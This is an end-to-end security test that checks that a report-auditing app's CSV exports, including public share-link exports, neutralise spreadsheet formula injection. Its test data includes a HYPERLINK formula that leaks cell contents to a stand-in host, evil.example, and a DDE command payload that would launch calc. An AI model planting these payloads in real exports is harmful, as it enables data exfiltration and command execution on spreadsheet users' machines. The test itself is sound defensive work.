import { contextAs, expect, test } from "./fixtures";
import { call, importReportOverHttp, pairExport, reportCopy } from "./security-helpers";

/**
 * Issue 12, finding 5: CSV formula injection. A rationale and a reported figure written as
 * spreadsheet formulas go out of both CSV exports (the app's and the public share link's) as text
 * that Excel shows instead of running.
 */
test("cells that would run as formulas are neutralised in every CSV export, the public one too", async ({
  browser,
}) => {
  const analyst = await contextAs(browser, "analyst");
  const marker = `（CSV 注入测试 ${Date.now()}）`;
  const planId = await importReportOverHttp(
    analyst.request,
    { name: "csv-2014.txt", buffer: reportCopy("hailar/hailar_2014.txt", marker) },
    { region: "公式注入测试区", year: 2014, title: "2014年公式注入测试区政府工作报告" },
  );
  const pledge = ((await pairExport(analyst.request, planId)).pledges as { id: string }[])[0];
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';
  const saved = await call(
    analyst.request,
    `/reports/${planId}/pledges/${pledge.id}`,
    "lib/assessments/actions.ts",
    "saveAssessmentAction",
    [
      {
        pledgeId: pledge.id,
        version: 1,
        status: "partial",
        rationale: formula,
        reportedValue: "+1+cmd|' /C calc'!A0",
      },
    ],
  );
  expect(saved).toMatchObject({ ok: true });

  const inApp = await (await analyst.request.get(`/audit/pair/${planId}/export?format=csv`)).text();
  const share = await call(
    analyst.request,
    `/audit/pair/${planId}`,
    "lib/shares/actions.ts",
    "createShareLinkAction",
    [{ scope: "pair", subjectId: planId, expiresOn: null, showNotes: true }],
  );
  const token = (share.data as { token: string }).token;
  const anonymous = await browser.newContext();
  const shared = await (await anonymous.request.get(`/share/${token}/export?format=csv`)).text();
  for (const csv of [inApp, shared]) {
    // The cells are there, prefixed with an apostrophe; no field starts with a formula character.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点此查看"")"`);
    expect(csv).toContain("'+1+cmd|' /C calc'!A0");
    const fields = csv.split(/,|\r\n/).map((f) => f.replace(/^"/, ""));
    expect(fields.filter((f) => /^[=+@\t\r]/.test(f))).toEqual([]);
  }
  await Promise.all([analyst.close(), anonymous.close()]);
});
